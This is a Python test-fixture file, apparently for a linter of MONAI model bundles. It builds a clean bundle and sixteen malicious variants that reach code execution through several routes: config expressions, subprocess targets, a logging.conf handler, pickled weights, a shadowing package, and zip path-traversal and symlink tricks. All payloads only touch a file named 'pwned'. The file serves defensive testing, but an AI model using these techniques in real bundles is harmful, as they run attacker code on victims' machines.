"""A harmless bundle, and ways to make it run somebody's code, by who wrote the linter.

Those of `evil_bundles_blind.py` are by who had not seen it. The payload of all of them would touch a file
named `pwned`; nothing here is ever loaded, only read.
"""

import io
import json
import pickle
import shutil
import zipfile
from pathlib import Path

import torch

COMMAND = "touch pwned"
CALL = f"__import__('os').system('{COMMAND}')"
INFERENCE = {
    "imports": ["$import torch", "$import os"],
    "bundle_root": ".",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "network_def": {"_target_": "monai.networks.nets.BasicUNet", "spatial_dims": 2, "in_channels": 1},
    "preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "LoadImaged", "keys": "image"}]},
    "dataset": {"_target_": "Dataset", "data": [], "transform": "@preprocessing"},
    "dataloader": {"_target_": "DataLoader", "dataset": "@dataset"},
    "inferer": {"_target_": "SimpleInferer"},
    "evaluator": {
        "_target_": "SupervisedEvaluator",
        "device": "@device",
        "val_data_loader": "@dataloader",
        "network": "$@network_def.to(@device)",
        "inferer": "@inferer",
    },
    "run": ["$@evaluator.run()"],
}
LOGGING = """[loggers]
keys=root
[handlers]
keys=console
[formatters]
keys=full
[logger_root]
level=INFO
handlers=console
[handler_console]
class=StreamHandler
level=INFO
formatter=full
args=(sys.stdout,)
[formatter_full]
format=%(asctime)s - %(message)s
"""


def harmless(folder: Path) -> Path:
    """Write a small bundle in which there is nothing to find."""
    for name in ("configs", "models", "docs"):
        (folder / name).mkdir(parents=True)
    (folder / "configs" / "inference.json").write_text(json.dumps(INFERENCE))
    (folder / "configs" / "train.json").write_text(json.dumps(INFERENCE))
    (folder / "configs" / "metadata.json").write_text(json.dumps({"version": "0.1.0", "task": "none"}))
    (folder / "configs" / "logging.conf").write_text(LOGGING)
    torch.save({"weight": torch.zeros(2)}, folder / "models" / "model.pt")
    (folder / "docs" / "README.md").write_text("# A bundle")
    (folder / "LICENSE").write_text("Apache License, Version 2.0")
    return folder


def configured(folder: Path, **keys: object) -> None:
    path = folder / "configs" / "inference.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **keys}))


def archived(folder: Path) -> Path:
    return Path(shutil.make_archive(str(folder), "zip", folder.parent, folder.name))


def plain_call(folder):
    """The victim runs the bundle."""
    configured(folder, initialize=[f"${CALL}"])


def target_of_a_shell(folder):
    """The victim runs the bundle, whose network is a process."""
    configured(folder, network_def={"_target_": "subprocess.Popen", "args": COMMAND, "shell": True})


def through_a_module_that_is_allowed(folder):
    """The path leads through torch to what torch imported."""
    configured(folder, device=f"$torch.serialization.os.system('{COMMAND}')")


def module_given_away_by_reference(folder):
    """One key is a module, another calls its function."""
    configured(folder, shell="$os", run=[f"$@shell.popen('{COMMAND}')"])


def subclasses_of_everything(folder):
    """No name at all: the classes that are loaded are walked through."""
    configured(folder, run=["$().__class__.__base__.__subclasses__()[140].__init__.__globals__"])


def expression_written_by_a_key(folder):
    """MONAI pastes the key into the relative id of the expression below it."""
    configured(folder, **{"x')," + CALL.replace("__", "") + ",('": {"a": 1, "b": "$@#a"}})


def reader_that_is_looked_up(folder):
    """LoadImage looks up a reader that it does not know as any class of any module."""
    transform = {"_target_": "LoadImaged", "keys": "image", "reader": "subprocess.Popen", "args": COMMAND}
    configured(folder, preprocessing=transform)


def function_that_is_given_as_text(folder):
    """A transform that calls what it is given."""
    transform = {"_target_": "Lambdad", "keys": "image", "func": "$lambda x: os.system('touch pwned')"}
    configured(folder, preprocessing=transform)


def key_of_a_deeper_target(folder):
    """An overlay sets the target of another file's network by its path."""
    configured(folder, **{"+network_def::_target_": "os.system", "network_def::command": COMMAND})


def include_of_a_file_elsewhere(folder):
    """What is evaluated lies where no linter looks."""
    configured(folder, run="%/tmp/elsewhere.json::run")


def handler_of_the_log(folder):
    """The arguments of a handler are evaluated before anything else happens."""
    evil = LOGGING.replace("(sys.stdout,)", f"({CALL},)")
    (folder / "configs" / "logging.conf").write_text(evil)


def pickle_in_the_weights(folder):
    """Older loaders, and weights_only=False, unpickle the weights."""

    class Payload:
        def __reduce__(self):
            return print, ("pwned",)

    torch.save({"weight": Payload()}, folder / "models" / "model.pt")


def second_pickle_in_the_weights(folder):
    """Two members of one name: who judges reads one, who loads the other."""
    path, content = folder / "models" / "model.pt", io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(content, "w") as evil:
        for name in archive.namelist():
            if name.endswith("data.pkl"):
                evil.writestr(name, pickle.dumps(print))
            evil.writestr(name, archive.read(name))
    path.write_bytes(content.getvalue())


def package_beside_the_configs(folder):
    """The bundle's root comes first on the path: its own `nibabel` would be imported."""
    (folder / "nibabel").mkdir()
    (folder / "nibabel" / "__init__.py").write_text(CALL)


def archive_that_leads_out(folder):
    """Unpacking writes a file beside the folder."""
    path = archived(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"{folder.name}/../../.bashrc", COMMAND)
    return path


def archive_with_a_link(folder):
    """Unpacking makes a link, and the next member is written through it."""
    path = archived(folder)
    entry = zipfile.ZipInfo(f"{folder.name}/docs/elsewhere")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(entry, "/etc")
    return path


KNOWN = (
    plain_call,
    target_of_a_shell,
    through_a_module_that_is_allowed,
    module_given_away_by_reference,
    subclasses_of_everything,
    expression_written_by_a_key,
    reader_that_is_looked_up,
    function_that_is_given_as_text,
    key_of_a_deeper_target,
    include_of_a_file_elsewhere,
    handler_of_the_log,
    pickle_in_the_weights,
    second_pickle_in_the_weights,
    package_beside_the_configs,
    archive_that_leads_out,
    archive_with_a_link,
)
